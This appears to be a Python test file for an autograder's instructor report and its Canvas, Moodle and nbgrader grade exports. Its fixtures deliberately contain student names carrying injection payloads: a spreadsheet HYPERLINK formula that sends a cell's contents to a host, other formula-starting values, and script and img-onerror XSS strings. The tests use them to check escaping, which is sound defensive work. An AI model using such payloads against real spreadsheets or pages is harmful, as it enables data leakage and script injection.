"""The instructor's report counts what there is, and every export is read back as its system would."""

import argparse
import csv
import datetime
import json
import os
import re
import shutil
import statistics
import sys
from collections.abc import Iterator
from dataclasses import asdict
from html.parser import HTMLParser
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin
from playwright.sync_api import Browser

from autograder import exercises
from autograder.grading import export, report
from autograder.grading.journal import last_reports
from autograder.grading.model import NotGraded, Report, Result
from autograder.grading.scores import Scores, read
from book.contents import ROOT

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # nbgrader's own
NAME = "02_activations"
POINTS = {"sigmoid": 2, "relu": 1, "elu": 2}
LATE = datetime.datetime(2026, 10, 1, 12, 0)
FORMULA = '=HYPERLINK("http://example.org?"&A1,"click")'
SCRIPT = "<script>alert(1)</script>"
# id: (first name, last name, email, id in the LMS, points for sigmoid, relu and elu)
CLASS = {
    "ada": ("Ada", "Lovelace, Countess", "ada@example.org", "101", (2, 1, 2)),
    "bob": ('Bob "Tables"', "O'Brien; x", "bob@example.org", "102", (2, 1, 0)),
    "cem": ("Çem\nNewline", "Özgür-Müßig", "cem@example.org", None, (1, 0, 0.5)),
    "dan": (FORMULA, "+1+1", "dan@example.org", "104", (0, 0, 0)),
    "eve": (SCRIPT, "@SUM(A1)", "eve@example.org", "105", (2, 0, 1)),
    "fay": ("Fay", "-2+3", "fay@example.org", "106", (2, 1, 2)),
}


def entry(student: str, *results: Result, **more) -> Report:
    return Report(student, NAME, "d" * 64, 1, results, **more)


def result(exercise: str, score: float, finding: str) -> Result:
    return Result(exercise, POINTS[exercise], score, score == POINTS[exercise], finding, "Words.")


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """An empty gradebook, and one with CLASS, gil and hal in it, to be copied.

    gil has handed nothing in, and of what hal handed in nothing is graded.
    """
    folder = tmp_path_factory.mktemp("gradebooks")
    paths = {"empty": folder / "empty.db", "full": folder / "full.db"}
    with pytest.MonkeyPatch.context() as patch:
        # nbgrader calls `alembic` by its bare name.
        patch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)
        with Gradebook(f"sqlite:///{paths['empty']}", "nnd") as book:
            book.add_assignment(NAME, duedate=LATE)
            book.add_notebook("activations", NAME)
            for name, points in POINTS.items():
                book.add_grade_cell(
                    f"check-{name}", "activations", NAME, max_score=points, cell_type="code"
                )
    shutil.copy(paths["empty"], paths["full"])
    with Gradebook(f"sqlite:///{paths['full']}", "nnd") as book:
        fill(book)
    return paths


def fill(book: Gradebook) -> None:
    for student, (first, last, email, lms, scores) in CLASS.items():
        book.add_student(student, first_name=first, last_name=last, email=email, lms_user_id=lms)
        book.add_submission(NAME, student, timestamp=LATE)
        for name, score in zip(POINTS, scores, strict=True):
            grade = book.find_grade(f"check-{name}", "activations", NAME, student)
            grade.auto_score, grade.needs_manual_grade = score, False
    book.add_student("gil", email="gil@example.org")
    book.add_student("hal", email="hal@example.org")
    book.add_submission(NAME, "hal")
    book.db.commit()


@pytest.fixture
def course(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A course folder, which `report` takes for the course."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NND_COURSE", "course")
    (tmp_path / "course").mkdir()
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    return tmp_path / "course"


@pytest.fixture
def gradebook(course: Path, prepared: dict[str, Path]) -> Iterator[Gradebook]:
    """The full gradebook, in its course."""
    shutil.copy(prepared["full"], course / "gradebook.db")
    with Gradebook(f"sqlite:///{course}/gradebook.db", "nnd") as book:
        yield book


def journal(course: Path, *reports: Report, torn: bytes = b"") -> Path:
    """Write the journal as the batch does, conditions and notes of what is recorded included."""
    path = course / "journal" / f"{NAME}.jsonl"
    path.parent.mkdir(exist_ok=True)
    lines = []
    for one in reports:
        lines.append(json.dumps({"conditions": {"tier": 1}, "report": asdict(one)}))
        lines.append(json.dumps({"recorded": one.student, "digest": one.digest}))
    path.write_bytes("".join(f"{line}\n" for line in lines).encode() + torn)
    return path


def run(*words: str) -> int:
    parser = argparse.ArgumentParser()
    report.add_arguments(parser)
    return report.main(parser.parse_args(words))


def one_sheet(gradebook: Gradebook, course: Path) -> report.Sheet:
    (scores,) = read(gradebook)
    return report.sheet(scores, course)


def item(sheet: report.Sheet, name: str) -> report.Item:
    (found,) = [one for one in sheet.items if one.name == name]
    return found


# -- what is counted ---------------------------------------------------------------------------


def test_difficulty_is_the_gradebooks(gradebook: Gradebook, course: Path) -> None:
    sheet = one_sheet(gradebook, course)
    assert [one.name for one in sheet.items] == list(POINTS)  # in the book's order
    sigmoid = item(sheet, "sigmoid")
    assert (sigmoid.submissions, sigmoid.points) == (6, 2)
    assert sigmoid.mean == pytest.approx((2 + 2 + 1 + 0 + 2 + 2) / 12)
    assert sigmoid.right == pytest.approx(4 / 6)
    assert sorted(sheet.values) == [0, 1.5, 3, 3, 5, 5]


def test_what_is_given_by_hand_counts(gradebook: Gradebook, course: Path) -> None:
    grade = gradebook.find_grade("check-sigmoid", "activations", NAME, "dan")
    grade.manual_score, grade.extra_credit = 1.0, 0.5
    gradebook.db.commit()
    sheet = one_sheet(gradebook, course)
    (dan,) = [mark for mark in sheet.scores.marks if mark.student.id == "dan"]
    assert dan.score == 1.5 and dan.exercises["sigmoid"] == 1.5
    assert item(sheet, "sigmoid").mean == pytest.approx((9 + 1.5) / 12)


def test_extra_credit_may_go_beyond_all_points(gradebook: Gradebook, course: Path) -> None:
    for student in CLASS:
        grade = gradebook.find_grade("check-relu", "activations", NAME, student)
        grade.manual_score, grade.extra_credit = 1.0, 2.0
    gradebook.db.commit()
    assert run() == 0
    relu = item(one_sheet(gradebook, course), "relu")
    assert (relu.mean, relu.right) == (3, 1)
    text = (course / "report" / "report.html").read_text(encoding="utf-8")
    assert "300%" in text and text.count("<svg") == 2


def test_discrimination_is_the_correlation_with_the_rest(gradebook, course: Path) -> None:
    sheet = one_sheet(gradebook, course)
    rows = [scores for *_, scores in CLASS.values()]
    own = [row[2] for row in rows]
    rest = [row[0] + row[1] for row in rows]
    assert item(sheet, "elu").discrimination == pytest.approx(statistics.correlation(own, rest))
    total = [sum(row) for row in rows]
    assert item(sheet, "elu").discrimination < statistics.correlation(own, total) - 0.05


@pytest.mark.parametrize(
    ("rows", "why"),
    [
        ([(1, 2)] * 4, "fewer than 5 submissions"),
        ([(1, 2), (1, 1), (1, 0), (1, 2), (1, 1)], "all have the same points"),
        ([(1, 2), (0, 2), (1, 2), (0, 2), (1, 2)], "all have the same points elsewhere"),
        ([(1,), (0,), (1,), (0,), (1,)], "there is no other exercise"),
    ],
)
def test_discrimination_says_when_it_is_undefined(rows, why: str) -> None:
    names = ("relu", "sigmoid")[: len(rows[0])]
    marks = tuple(
        report.Mark(
            report.Student(str(i)), True, "", sum(row), 0, dict(zip(names, row, strict=True))
        )
        for i, row in enumerate(rows)
    )
    scores = Scores(NAME, dict.fromkeys(names, 2.0), marks)
    assert report.discrimination("relu", scores) == (None, why)


def test_the_last_line_of_a_student_counts(gradebook: Gradebook, course: Path) -> None:
    mistake = exercises.find("sigmoid").mistakes[0]
    path = journal(
        course,
        entry("ada", result("sigmoid", 0, "raises TypeError")),
        entry("ada", result("sigmoid", 0, mistake.name)),
        entry("bob", result("sigmoid", 0, mistake.name)),
        entry("cem", result("sigmoid", 0, "another finding")),
        entry("dan", result("sigmoid", 0, report.BLANK)),
        entry("eve", result("sigmoid", 2, "right")),
        torn=b'{"conditions": {}, "report": {"student": "bob", "assign',
    )
    assert last_reports(path)["bob"].results[0].finding == mistake.name
    sigmoid = item(one_sheet(gradebook, course), "sigmoid")
    assert sigmoid.blank == 1
    assert sigmoid.findings == (
        report.Common(mistake.name, 2, mistake.advice),
        report.Common("another finding", 1, ""),
    )


def test_who_is_not_graded_is_listed_with_the_reason(gradebook: Gradebook, course: Path) -> None:
    journal(course, entry("ivy", ungraded="the notebook is no JSON."), entry("bob", ungraded="x"))
    (course / "submitted" / "jan" / NAME).mkdir(parents=True)
    sheet = one_sheet(gradebook, course)
    assert sheet.ungraded == [
        ("bob", "x; the score is from before"),
        ("hal", "no grade yet for sigmoid, relu, elu"),
        ("ivy", "the notebook is no JSON"),
        ("jan", "not graded yet"),
    ]
    assert len(sheet.graded) == len(CLASS)  # and gil, who handed nothing in, is in no list


def test_flags_are_listed(gradebook: Gradebook, course: Path) -> None:
    journal(course, entry("ada", flags=("The check cell was deleted.",)))
    grade = gradebook.find_grade("check-relu", "activations", NAME, "bob")
    grade.manual_score, grade.needs_manual_grade = 1.0, True
    gradebook.db.commit()
    (ada, bob) = one_sheet(gradebook, course).flagged
    assert ada == ("ada", "The check cell was deleted.")
    assert bob[0] == "bob" and "relu" in bob[1]


# -- the page ----------------------------------------------------------------------------------


class Elements(HTMLParser):
    """Everything on a page that could run or load something."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag, attributes) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attributes]


@pytest.fixture
def page(gradebook: Gradebook, course: Path) -> str:
    """The page on a class whose every text that a student can choose is hostile."""
    nasty = f'{SCRIPT}<img src="http://example.org/x" onerror=alert(1)>'
    journal(
        course,
        entry("ada", result("relu", 0, nasty), flags=(nasty,)),
        entry("bob", ungraded=nasty),
        entry(nasty, ungraded=nasty),
    )
    assert run() == 0
    return (course / "report" / "report.html").read_text(encoding="utf-8")


def test_the_page_runs_and_loads_nothing(page: str) -> None:
    found = Elements(page)
    assert not {"script", "img", "iframe", "link", "object", "embed", "form"} & set(found.tags)
    assert not [name for _, name, _ in found.attributes if name.startswith("on")]
    links = [value for _, name, value in found.attributes if name.endswith(("href", "src"))]
    assert links and all(value.startswith("#") for value in links)
    assert not re.search(r"url\((?!#)", page) and "@import" not in page
    assert any("default-src 'none'" in value for _, _, value in found.attributes)
    assert page.count("&lt;script&gt;") >= 4  # it is all there, as text


def test_the_page_is_small_and_says_whom_it_is_for(page: str) -> None:
    assert len(page.encode()) < 100_000
    assert page.index("For the instructor only.") < page.index("<h2")
    assert "prefers-color-scheme: dark" in page and 'name="viewport"' in page


def test_pictures_have_titles_texts_and_the_pages_colours(page: str) -> None:
    pictures = re.findall(r"<svg.*?</svg>", page, re.S)
    assert len(pictures) == 2
    for picture in pictures:
        assert re.search(rf'role="img" aria-label="[^"]*{NAME}: [^"]*\d', picture)
        assert "<title>" in picture and "currentColor" in picture and "var(--bar)" in picture
        assert not set(re.findall(r"#[0-9a-f]{6}", picture)), "a colour of its own"
    ids = re.findall(r' id="([^"]+)"', page)
    assert len(ids) == len(set(ids))


def test_the_page_states_the_formula_and_what_is_undefined(page: str) -> None:
    assert "cov(<var>x</var>, <var>T</var> − <var>x</var>)" in page
    assert "fewer than 5 submissions" in page


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_fits_a_phone(page: str, course: Path, browser: Browser, scheme: str) -> None:
    context = browser.new_context(viewport={"width": 360, "height": 740}, color_scheme=scheme)
    asked: list[str] = []
    shown = context.new_page()
    shown.on("request", lambda request: asked.append(request.url))
    shown.goto((course / "report" / "report.html").as_uri())
    assert shown.evaluate("document.documentElement.scrollWidth") <= 360
    sizes = shown.evaluate(
        "[...document.querySelectorAll('svg text')].map(one => one.getBoundingClientRect().height)"
    )
    assert min(sizes) >= 9
    ink, ground = shown.evaluate(
        "['color', 'backgroundColor'].map(name => getComputedStyle(document.body)[name])"
    )
    bright = [sum(map(int, re.findall(r"\d+", colour)[:3])) for colour in (ink, ground)]
    assert (bright[0] < bright[1]) == (scheme == "light")
    assert len(asked) == 1  # the page itself
    context.close()


def test_a_class_without_a_grade_has_a_page(course: Path, prepared, capsys) -> None:
    shutil.copy(prepared["empty"], course / "gradebook.db")
    assert run(NAME) == 0
    text = (course / "report" / "report.html").read_text(encoding="utf-8")
    assert "nan" not in text.lower().replace("relu", "") and "<svg" not in text
    assert "0 of 0 handed in are graded" in capsys.readouterr().out


# -- the CSV files -----------------------------------------------------------------------------


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_the_csv_files_hold_what_the_page_says(gradebook: Gradebook, course: Path) -> None:
    journal(course, entry("ada", result("elu", 0, "a finding"), flags=("Odd.", "Odder.")))
    assert run() == 0
    by_name = {row["exercise"]: row for row in rows(course / "report" / "exercises.csv")}
    assert float(by_name["sigmoid"]["mean_share"]) == pytest.approx(0.75)
    assert by_name["elu"]["common_findings"] == "a finding (1)"
    students = {row["student_id"]: row for row in rows(course / "report" / "students.csv")}
    assert students.keys() == {*CLASS, "gil", "hal"}
    assert students["bob"]["score"] == "3.0" and students["ada"]["flags"] == "Odd. Odder."
    assert students["gil"]["handed_in"] == "no" and students["gil"]["score"] == ""
    assert students["hal"]["handed_in"] == "yes" and students["hal"]["score"] == ""


def test_undefined_is_no_number(gradebook: Gradebook, course: Path) -> None:
    for student in ("ada", "bob"):
        gradebook.remove_submission(NAME, student)
    assert run() == 0
    for row in rows(course / "report" / "exercises.csv"):
        assert row["discrimination"] == "" and row["undefined_because"]


def test_no_cell_begins_a_formula(gradebook: Gradebook, course: Path) -> None:
    journal(course, entry("ada", result("relu", 0, FORMULA)), entry("=1+1", ungraded="-1"))
    for words in ((), ("--grades", "csv"), ("--grades", "canvas"), ("--grades", "moodle")):
        assert run(*words) == 0
    files = list((course / "report").glob("*.csv"))
    assert len(files) == 5
    for path in files:
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [one for one in cells if one.startswith(tuple("=+@\t\r")) or one[:2] == "-2"]
    assert "'=HYPERLINK" in (course / "report" / "students.csv").read_text(encoding="utf-8")


# -- the exports, read back --------------------------------------------------------------------


def exported(kind: str, course: Path) -> list[list[str]]:
    assert run("--grades", kind, "--to", str(course / "out")) == 0
    (path,) = (course / "out").iterdir()
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


def by_canvas(table: list[list[str]]) -> dict[str, str]:
    """Return who gets which grade, as Canvas's gradebook_importer.rb finds it out."""
    header, *lines = table
    assert "Student" in header[0] and "ID" in header[1]
    assert re.search(r"SIS\s+User\s+ID", header[2]) and re.search(r"SIS\s+Login\s+ID", header[3])
    assert "Section" in header[4]
    columns = header[5:]
    assert columns == [NAME]
    ids = {lms: name for name, (*_, lms, _) in CLASS.items() if lms}
    logins = {*CLASS, "gil", "hal"}
    grades = {}
    for row in lines:
        if "Points Possible" in row[0]:
            assert float(row[5]) == sum(POINTS.values())
            continue
        student = ids.get(row[1]) or (row[3] if row[3] in logins else None)
        assert student is not None and student not in grades, row
        grades[student] = row[5].strip()
    return grades


def by_moodle(table: list[list[str]]) -> dict[str, str | None]:
    """Return who gets which grade, as Moodle's load_data.php finds it out."""
    header, *lines = table
    column = header.index(f"Assignment: {NAME} (Real)")
    who = header.index("Email address")
    users = {email: name for name, (_, _, email, *_) in CLASS.items()}
    users |= {f"{name}@example.org": name for name in ("gil", "hal")}
    grades: dict[str, str | None] = {}
    for row in lines:
        assert len(row) == len(header)  # else Moodle refuses the file
        assert row[who].strip(), "a blank row is given to the student above it"
        value = row[column].strip()
        assert value, "an empty cell of a new column would be stored"
        grades[users[row[who].strip()]] = None if value == "-" else value
        assert row[header.index("Username")] == users[row[who]]
    return grades


@pytest.fixture
def late(gradebook: Gradebook) -> dict[str, float | None]:
    """Give bob a penalty, and more of one than he has to cem; return what each should get."""
    for student, penalty in (("bob", 1.0), ("cem", 4.0)):
        notebook = gradebook.find_submission_notebook("activations", NAME, student)
        notebook.late_submission_penalty = penalty
    gradebook.db.commit()
    wanted: dict[str, float | None] = {name: float(sum(one[-1])) for name, one in CLASS.items()}
    return wanted | {"bob": 2.0, "cem": 0.0, "gil": None, "hal": None}


def test_canvas_reads_its_import(late, course: Path) -> None:
    found = by_canvas(exported("canvas", course))
    assert {name: float(grade) if grade else None for name, grade in found.items()} == late


def test_moodle_reads_its_import(late, course: Path) -> None:
    found = by_moodle(exported("moodle", course))
    assert {name: float(grade) if grade else None for name, grade in found.items()} == late


def test_a_name_is_never_taken_for_the_row_of_points(gradebook, course: Path) -> None:
    gradebook.update_or_create_student("bob", last_name="Points Possible")
    found = by_canvas(exported("canvas", course))
    assert found["bob"] == "3.0"


def test_moodle_gets_addresses_of_all_or_of_none(gradebook: Gradebook, course: Path) -> None:
    gradebook.update_or_create_student("bob", email=None)
    header, *lines = exported("moodle", course)
    assert header[:4] == ["Username", "First name", "Last name", f"Assignment: {NAME} (Real)"]
    assert {row[0] for row in lines} == {*CLASS, "gil", "hal"}


def test_nbgraders_csv_is_right_where_nbgraders_own_is_not(late, gradebook, course: Path) -> None:
    header, *lines = exported("csv", course)
    found = {row[3]: dict(zip(header, row, strict=True)) for row in lines}
    scores = {name: float(row["score"]) if row["score"] else None for name, row in found.items()}
    assert scores == late
    assert found["ada"]["last_name"] == "Lovelace, Countess"
    assert found["bob"]["first_name"] == 'Bob "Tables"'
    assert (
        found["cem"]["last_name"] == "Özgür-Müßig" and found["cem"]["first_name"] == "Çem Newline"
    )


def test_nbgraders_csv_is_nbgraders_for_plain_names(late, gradebook, course: Path) -> None:
    for name in CLASS:
        gradebook.update_or_create_student(name, first_name="A", last_name="B")
    plugin, ours = CsvExportPlugin(), export.QuotedCsvExportPlugin()
    plugin.to, ours.to = str(course / "theirs.csv"), str(course / "ours.csv")
    plugin.export(gradebook)
    ours.export(gradebook)
    theirs = {row["student_id"]: row for row in rows(course / "theirs.csv")}
    mine = {row["student_id"]: row for row in rows(course / "ours.csv")}
    assert list(theirs) == list(mine) and list(theirs["ada"]) == list(mine["ada"])
    assert {name: mine[name] for name in CLASS} == {name: theirs[name] for name in CLASS}
    assert theirs["gil"]["score"] == theirs["hal"]["score"] == "0.0"  # why ours differs
    assert mine["gil"]["score"] == mine["hal"]["score"] == ""


def test_the_plugin_takes_students_and_assignments(gradebook: Gradebook, course: Path) -> None:
    plugin = export.QuotedCsvExportPlugin(student=["bob"], assignment=[NAME])
    plugin.to = str(course / "one.csv")
    plugin.export(gradebook)
    assert [row["student_id"] for row in rows(course / "one.csv")] == ["bob"]


# -- the command -------------------------------------------------------------------------------


def test_an_unknown_assignment_is_named(gradebook: Gradebook, course: Path) -> None:
    with pytest.raises(NotGraded, match=rf"no assignment 99_nothing; it has {NAME}\."):
        run("99_nothing")


def test_a_course_that_is_not_there_is_named_and_not_made(course: Path, monkeypatch) -> None:
    monkeypatch.setenv("NND_COURSE", "nowhere")
    with pytest.raises(NotGraded, match="nowhere"):
        run()
    assert not Path("nowhere").exists()


def test_a_folder_that_cannot_be_written_to_is_named(gradebook, course: Path) -> None:
    (course / "report").write_text("a file where the folder should be")
    with pytest.raises(NotGraded, match="report"):
        run()


def test_a_gradebook_that_is_none_is_named(course: Path) -> None:
    (course / "gradebook.db").write_text("not a database" * 100)
    with pytest.raises(NotGraded, match="course"):
        run()


def test_a_changed_id_is_told(gradebook: Gradebook, course: Path, capsys) -> None:
    gradebook.add_student("=1+1")
    assert run("--grades", "canvas") == 0
    assert "'=1+1' is changed in the files" in capsys.readouterr().out
